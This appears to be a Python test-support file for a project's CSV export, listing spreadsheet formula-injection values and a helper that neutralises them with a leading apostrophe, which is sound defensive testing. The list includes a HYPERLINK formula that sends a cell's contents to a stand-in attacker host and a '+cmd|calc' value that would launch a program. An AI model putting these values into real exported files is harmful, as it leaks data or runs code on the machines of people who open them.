"""Values a spreadsheet would run as formulas, for the tests of every CSV download, and how a
download must write them."""

from __future__ import annotations

from typing import Any

from tests.support.provider import Step, ok

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|calc",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
]
NUMBER_AS_TEXT = "-0.5"  # a plain number: stays as it is


def neutralised(value: str) -> str:
    return "'" + value


def echo(body: dict[str, Any]) -> Step:
    """A provider answer that repeats the prompt, whatever it starts with."""
    return ok(str(body["messages"][-1]["content"]))
